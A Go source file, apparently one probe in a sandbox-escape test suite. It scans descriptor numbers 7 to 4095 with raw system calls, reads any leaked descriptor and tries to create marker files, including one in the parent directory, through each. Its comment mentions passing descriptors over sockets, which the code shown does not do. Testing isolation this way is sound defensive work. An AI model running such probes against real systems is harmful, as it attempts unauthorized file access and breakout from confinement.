package main

import (
	"unsafe"

	"example.com/hostile/attack"
)

func init() { techniques["descriptors"] = tryDescriptors }

// tryDescriptors reads and writes every number that may be a descriptor, and passes descriptors over sockets.
func tryDescriptors() {
	b := make([]byte, 64)
	for _, way := range attack.Ways {
		for fd := uintptr(7); fd < 4096; fd++ {
			if n := way(17, fd, uintptr(unsafe.Pointer(&b[0])), 64, 0, 0, 0); n > 0 && b[0] != '0' && b[0] != 0x7f {
				println("descriptor", fd, "can be read")
			}
			way(257, fd, attack.String("mark"), 0x41, 0o666, 0, 0)
			way(257, fd, attack.String("../mark"), 0x41, 0o666, 0, 0)
		}
	}
}
